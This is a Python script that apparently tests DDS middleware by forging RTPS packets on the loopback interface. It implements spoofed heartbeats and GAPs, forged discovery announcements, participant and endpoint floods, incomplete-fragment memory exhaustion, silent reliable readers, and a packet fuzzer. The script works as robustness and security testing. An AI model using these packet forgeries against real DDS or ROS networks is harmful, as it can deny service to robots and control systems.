#!/usr/bin/env python3
"""Attacks a DDS domain on the loopback interface with forged RTPS packets, as anybody on the network can.

    rtps.py --domain 7 heartbeat --seconds 10     a publisher that claims 2^40 samples
    rtps.py --domain 7 gap                        ... and one that takes them back
    rtps.py --domain 7 builtin                    the same from the writers of discovery
    rtps.py --domain 7 flood --rate 3000          participants that are none
    rtps.py --domain 7 endpoints --rate 3000      one participant with writers and readers without end
    rtps.py --domain 7 fragments --rate 5         the first fragment of each message of a large topic, and no other
    rtps.py --domain 7 fuzz --seed 5              packets made by the grammar, and changed ones

It joins as a participant of its own where an attack needs one that is known. After a second it prints that it is
under way, and at the end how many packets it has sent, each as a line of JSON. Nothing but the standard library is
needed. RTPS 2.5, chapters 8 and 9, has the numbers.
"""

import argparse
import json
import random
import select
import socket
import struct
import time

HOST = "127.0.0.1"
GROUP = "239.255.0.1"
PARTICIPANTS = 12
PARTICIPANT_WRITER, PARTICIPANT_READER = b"\0\1\0\xc2", b"\0\1\0\xc7"
PUBLICATION_WRITER, PUBLICATION_READER = b"\0\0\3\xc2", b"\0\0\3\xc7"
SUBSCRIPTION_WRITER, SUBSCRIPTION_READER = b"\0\0\4\xc2", b"\0\0\4\xc7"
TOPIC_WRITER, TOPIC_READER = b"\0\0\2\xc2", b"\0\0\2\xc7"
LIVELINESS_WRITER, LIVELINESS_READER = b"\0\2\0\xc2", b"\0\2\0\xc7"
USER_WRITER, USER_READER = b"\0\0\x12\3", b"\0\0\x13\4"
# Of each participant of Cyclone DDS.
FIRST_WRITER = b"\0\0\2\3"
LARGE_BYTES, FRAGMENT_BYTES = 4_000_000, 64_000
ANYBODY = b"\0\0\0\0"
BUILT_IN = [
    (PARTICIPANT_WRITER, PARTICIPANT_READER),
    (PUBLICATION_WRITER, PUBLICATION_READER),
    (SUBSCRIPTION_WRITER, SUBSCRIPTION_READER),
    (TOPIC_WRITER, TOPIC_READER),
    (LIVELINESS_WRITER, LIVELINESS_READER),
]
DIAGNOSTICS = ("rt/diagnostics", "diagnostic_msgs::msg::dds_::DiagnosticArray_")
EDGES = [0, 1, 2, 3, 255, 256, 257, 2**15, 2**16, 2**31 - 1, 2**31, 2**32 - 1, 2**32, 2**40, 2**62, 2**63 - 1, -1, -(2**63)]


def number(value):
    """A sequence number: the high half, then the low one."""
    return struct.pack("<iI", value >> 32, value & 0xFFFFFFFF)


def text(value):
    """A CDR string, padded."""
    value = value.encode() + b"\0"
    return struct.pack("<I", len(value)) + value + b"\0" * (-len(value) % 4)


def parameter(number, value):
    value += b"\0" * (-len(value) % 4)
    return struct.pack("<HH", number, len(value) & 0xFFFF) + value


def locator(port):
    return struct.pack("<iI", 1, port) + b"\0" * 12 + socket.inet_aton(HOST)


def submessage(kind, body, flags=1):
    return struct.pack("<BBH", kind, flags, len(body) & 0xFFFF) + body


def data(reader, writer, sequence, payload, flags=5):
    return submessage(0x15, struct.pack("<HH", 0, 16) + reader + writer + number(sequence) + payload, flags)


def heartbeat(reader, writer, first, last, count):
    return submessage(0x07, reader + writer + number(first) + number(last) + struct.pack("<I", count & 0xFFFFFFFF))


def numbers(base, bits):
    return number(base) + struct.pack("<I", bits & 0xFFFFFFFF) + b"\xff" * (4 * min((bits + 31) // 32, 64))


def gap(reader, writer, start, base, bits=0):
    return submessage(0x08, reader + writer + number(start) + numbers(base, bits))


class Attacker:
    """A participant of its own, and the others that it pretends to be."""

    def __init__(self, domain, seed, participants=PARTICIPANTS):
        self.participants = participants
        self.random = random.Random(seed)
        self.base = 7400 + 250 * domain
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((HOST, 0))
        self.sent, self.count, self.patience = 0, 0, 0.05
        self.prefix = self.stranger()
        self.prefixes, self.entities, self.packets = [self.prefix], [], []
        self.sockets = [self.socket, self.listen()]

    def listen(self):
        """Hears what others announce."""
        it = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        it.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        it.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        it.bind(("", self.base))
        try:
            it.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP) + socket.inet_aton(HOST))
        except OSError:
            pass
        return it

    def stranger(self):
        return b"\x01\x0f" + self.random.randbytes(10)

    def header(self, prefix):
        return b"RTPS\2\3" + prefix[:2] + prefix

    def send(self, packet, offsets=(10, 11)):
        """To all participants of this machine: discovery listens at offset 10, messages at 11."""
        for participant in range(self.participants):
            for offset in offsets:
                try:
                    self.socket.sendto(packet[:65000], (HOST, self.base + offset + 2 * participant))
                except OSError:
                    pass
        self.sent += 1

    def learn(self):
        """Remembers who speaks here, and what was said."""
        while (ready := select.select(self.sockets, [], [], 0)[0]):
            for it in ready:
                packet = it.recv(65536)
                if packet[:4] == b"RTPS" and len(packet) >= 20:
                    if packet[8:20] not in self.prefixes:
                        self.prefixes = (self.prefixes + [packet[8:20]])[-64:]
                    self.packets = (self.packets + [packet])[-256:]

    def announcement(self, prefix):
        port = self.socket.getsockname()[1]
        payload = b"\0\3\0\0" + b"".join([
            parameter(0x15, b"\2\3"),
            parameter(0x16, prefix[:2]),
            parameter(0x50, prefix + b"\0\0\1\xc1"),
            parameter(0x32, locator(port)),
            parameter(0x31, locator(port)),
            parameter(0x58, struct.pack("<I", 0xC3F)),
            parameter(0x02, struct.pack("<iI", 30, 0)),
            parameter(0x01, b""),
        ])
        return self.header(prefix) + data(ANYBODY, PARTICIPANT_WRITER, 1, payload)

    def endpoint(self, prefix, entity, topic, type_name, sequence=1, more=b""):
        """The announcement of a writer (entity kind 2 or 3) or reader."""
        writes = entity[3] & 0x07 in (2, 3)
        writer, reader = (PUBLICATION_WRITER, PUBLICATION_READER) if writes else (SUBSCRIPTION_WRITER, SUBSCRIPTION_READER)
        payload = b"\0\3\0\0" + b"".join([
            parameter(0x5A, prefix + entity),
            parameter(0x05, text(topic)),
            parameter(0x07, text(type_name)),
            parameter(0x1A, struct.pack("<IiI", 2, 0, 100_000_000)),
            parameter(0x1D, struct.pack("<I", 0)),
            more,
            parameter(0x01, b""),
        ])
        return self.header(prefix) + data(reader, writer, sequence, payload)

    def join(self):
        """Becomes known, with a writer of diagnostics, to new participants."""
        self.send(self.announcement(self.prefix))
        self.send(self.endpoint(self.prefix, USER_WRITER, *DIAGNOSTICS))
        time.sleep(self.patience)

    def heartbeats(self):
        self.join()
        self.count += 1
        self.send(self.header(self.prefix) + heartbeat(ANYBODY, USER_WRITER, 1, 2**40, self.count))

    def gaps(self):
        self.join()
        # Behind a missing number: a GAP that begins with the first costs nothing.
        self.send(self.header(self.prefix) + gap(ANYBODY, USER_WRITER, 3, 2**40))

    def builtin(self):
        self.join()
        self.count += 1
        for writer, reader in BUILT_IN[1:]:
            claims = heartbeat(reader, writer, 1, 2**40, self.count) + gap(reader, writer, 1, 2**40)
            self.send(self.header(self.prefix) + claims)

    def flood(self):
        """As many participants as there are packets."""
        self.send(self.announcement(self.stranger()), offsets=(10,))

    def silence(self):
        """One reliable reader of each of two topics, which acknowledges nothing."""
        self.send(self.announcement(self.prefix), offsets=(10,))
        for number, name in enumerate(("held", "free"), 1):
            self.send(self.endpoint(self.prefix, bytes([0, 0, number, 4]), f"rt/{name}", "std_msgs::msg::dds_::Bool_", number), offsets=(10,))

    def endpoints(self):
        """One participant, with as many writers and readers as there are packets, each of a topic of its own."""
        if self.sent % 500 == 0:
            self.send(self.announcement(self.prefix), offsets=(10,))
        kind = b"\3" if self.sent % 2 else b"\4"
        entity = struct.pack(">I", self.sent)[1:] + kind
        self.send(self.endpoint(self.prefix, entity, f"rt/{self.sent}", DIAGNOSTICS[1], self.sent), offsets=(10,))

    def fragments(self):
        """As best-effort point clouds that lose packets, from a writer with the entity id of others."""
        if self.count == 0:
            self.send(self.announcement(self.prefix), offsets=(10,))
            self.send(self.endpoint(self.prefix, FIRST_WRITER, "rt/points", "sensor_msgs::msg::dds_::PointCloud2_"), offsets=(10,))
        self.count += 1
        body = struct.pack("<HH", 0, 28) + ANYBODY + FIRST_WRITER + number(self.count)
        body += struct.pack("<IHHI", 1, 1, FRAGMENT_BYTES, LARGE_BYTES) + b"\0\1\0\0"
        self.send(self.header(self.prefix) + submessage(0x16, body), offsets=(11,))

    def fuzz(self):
        self.learn()
        if self.sent % 200 == 0:
            self.prefix = self.stranger()
            self.prefixes.append(self.prefix)
            self.join()
        pick = self.random.random()
        if pick < 0.25 and self.packets:
            packet = self.changed(self.random.choice(self.packets))
        elif pick < 0.4:
            made = self.random.choice([self.announcement(self.prefix), self.some_endpoint()])
            packet = self.changed(made) if self.random.random() < 0.6 else made
        else:
            parts = [self.some_submessage() for _ in range(self.random.choice([1, 1, 1, 2, 3, 8]))]
            packet = self.header(self.random.choice(self.prefixes)) + b"".join(parts)
            packet = self.changed(packet) if self.random.random() < 0.2 else packet
        self.send(packet)

    def changed(self, packet):
        """Some bytes of it, its end or a part of it otherwise."""
        packet, choose = bytearray(packet), self.random
        for _ in range(choose.choice([1, 1, 2, 4, 16])):
            at = choose.randrange(8, max(9, len(packet)))
            way = choose.randrange(4)
            if way == 0:
                packet[at : at + 1] = bytes([choose.randrange(256)])
            elif way == 1:
                packet[at : at + 4] = struct.pack("<i", choose.choice([0, 1, -1, 2**31 - 1, 255, 65535]))
            elif way == 2:
                del packet[at : at + choose.randrange(1, 9)]
            else:
                packet[at:at] = packet[at : at + choose.randrange(1, 64)]
        return bytes(packet)

    def edge(self):
        return self.random.choice(EDGES + [self.random.randrange(2 ** self.random.randrange(1, 63))])

    def small(self):
        return self.random.choice([0, 1, 2, 31, 32, 33, 255, 256, 257, 0x7FFF, 0xFFFF, 2**31, 2**32 - 1])

    def some_pair(self):
        pairs = BUILT_IN + [(USER_WRITER, ANYBODY), (USER_WRITER, USER_READER), (USER_WRITER, self.random.randbytes(4))]
        writer, reader = self.random.choice(pairs)
        return writer, (ANYBODY if self.random.random() < 0.3 else reader)

    def some_parameters(self):
        """A parameter list of known and unknown ids, true and false lengths."""
        ids = [0x00, 0x01, 0x02, 0x05, 0x07, 0x15, 0x16, 0x1A, 0x1B, 0x1D, 0x1E, 0x1F, 0x21, 0x23, 0x25, 0x2B, 0x2C, 0x2F,
               0x30, 0x31, 0x32, 0x40, 0x41, 0x44, 0x50, 0x52, 0x53, 0x58, 0x59, 0x5A, 0x62, 0x70, 0x71, 0x7F, 0x3FFF, 0x8001]
        parts = []
        for _ in range(self.random.randrange(12)):
            size = self.random.choice([0, 1, 4, 8, 12, 16, 24, 64])
            one = parameter(self.random.choice(ids), self.random.randbytes(size))
            if self.random.random() < 0.2:
                one = one[:2] + struct.pack("<H", self.small() & 0xFFFF) + one[4:]
            parts.append(one)
        return b"".join(parts) + (parameter(1, b"") if self.random.random() < 0.8 else b"")

    def some_endpoint(self):
        entity = self.random.choice([USER_WRITER, USER_READER, self.random.randbytes(3) + self.random.choice([b"\2", b"\3", b"\4", b"\7"])])
        topic = self.random.choice([DIAGNOSTICS[0], "rt/mission/active", "ros_discovery_info", "rt/" + "x" * (self.small() % 5000)])
        type_name = self.random.choice([DIAGNOSTICS[1], "std_msgs::msg::dds_::Bool_", "z" * (self.small() % 5000)])
        return self.endpoint(self.prefix, entity, topic, type_name, abs(self.edge()) % 2**62, self.some_parameters()[:-4])

    def some_submessage(self):
        choose, (writer, reader) = self.random, self.some_pair()
        kind = choose.randrange(14)
        self.count += 1
        if kind == 0:
            return heartbeat(reader, writer, self.edge(), self.edge(), self.count)
        if kind == 1:
            return gap(reader, writer, self.edge(), self.edge(), self.small())
        if kind == 2:
            return submessage(0x06, reader + writer + numbers(self.edge(), self.small()) + struct.pack("<I", self.count))
        if kind == 3:
            body = reader + writer + number(self.edge()) + struct.pack("<I", self.small()) + numbers(self.edge(), self.small())[4:]
            return submessage(0x12, body + struct.pack("<I", self.count))
        if kind == 4:
            body = reader + writer + number(self.edge()) + struct.pack("<II", self.small(), self.count & 0xFFFFFFFF)
            return submessage(0x13, body)
        if kind in (5, 6):
            # A fragment: number, how many, their size, the size of the whole.
            size = [choose.choice([0, 1, 2, 2**16, 2**31, 2**32 - 1]), choose.choice([0, 1, 2, 65535]), choose.choice([0, 1, 8, 1344, 65535])]
            body = struct.pack("<HH", 0, choose.choice([0, 28, 65535])) + reader + writer + number(self.edge())
            body += struct.pack("<IHHI", size[0], size[1], size[2], self.small()) + choose.randbytes(choose.randrange(200))
            return submessage(0x16, body, choose.choice([1, 3, 5, 9]))
        if kind in (7, 8):
            encapsulation = choose.choice([b"\0\0\0\0", b"\0\1\0\0", b"\0\2\0\0", b"\0\3\0\0", b"\0\7\0\0", b""])
            payload = encapsulation + choose.choice([self.some_parameters(), choose.randbytes(choose.randrange(300)), b""])
            return data(reader, writer, self.edge(), payload, choose.choice([1, 3, 5, 7, 9, 13, 4]))
        if kind == 9:
            return submessage(0x09, choose.randbytes(8), choose.choice([1, 3]))
        if kind == 10:
            return submessage(choose.choice([0x0C, 0x0E]), choose.randbytes(choose.choice([4, 12, 20])))
        if kind == 11:
            return submessage(choose.choice([0x0F, 0x0D]), choose.randbytes(choose.choice([4, 28, 60])))
        if kind == 12:
            return submessage(choose.choice([0x30, 0x31, 0x32, 0x33, 0x34, 0x80, 0x55]), choose.randbytes(choose.randrange(64)))
        return submessage(0x01, b"", 0) + struct.pack("<BBH", choose.randrange(256), choose.randrange(256), self.small() & 0xFFFF)


def main():
    attacks = {
        "heartbeat": Attacker.heartbeats,
        "gap": Attacker.gaps,
        "builtin": Attacker.builtin,
        "flood": Attacker.flood,
        "silence": Attacker.silence,
        "endpoints": Attacker.endpoints,
        "fragments": Attacker.fragments,
        "fuzz": Attacker.fuzz,
    }
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--domain", type=int, required=True)
    parser.add_argument("attack", choices=attacks)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--rate", type=float, default=500, help="packets a second, at most")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--participants", type=int, default=PARTICIPANTS, help="how many of this machine are spoken to")
    parser.add_argument("--once", action="store_true", help="one round of it")
    words = parser.parse_args()
    attacker = Attacker(words.domain, words.seed, words.participants)
    if words.once:
        # It has to be known for it.
        attacker.patience = 1
    started, is_said = time.monotonic(), False
    while time.monotonic() - started < words.seconds:
        attacks[words.attack](attacker)
        if not is_said and attacker.sent >= min(words.rate, 1000):
            is_said = True
            print(json.dumps({"under_way": True}), flush=True)
        if words.once:
            break
        ahead = attacker.sent / words.rate - (time.monotonic() - started)
        if ahead > 0:
            time.sleep(ahead)
    print(json.dumps({"sent": attacker.sent, "seed": words.seed}), flush=True)


if __name__ == "__main__":
    main()
